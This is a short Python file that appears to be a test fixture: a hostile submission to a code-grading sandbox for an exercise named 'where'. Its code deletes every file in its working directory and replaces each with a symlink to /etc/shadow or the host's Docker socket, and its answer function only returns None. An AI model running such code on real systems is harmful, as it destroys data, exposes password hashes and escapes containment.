"""Replaces its connection file, its log and its kernel's sockets by links to files and sockets of the host."""

from corpus import answering

EXERCISE = "where"
submission = answering(
    EXERCISE,
    """
import os

for name in os.listdir("."):
    try:
        os.unlink(name)
    except OSError:
        continue
    os.symlink("/etc/shadow" if name == "log" else "/var/run/docker.sock", name)


def where(tensor):
    return None
""",
)
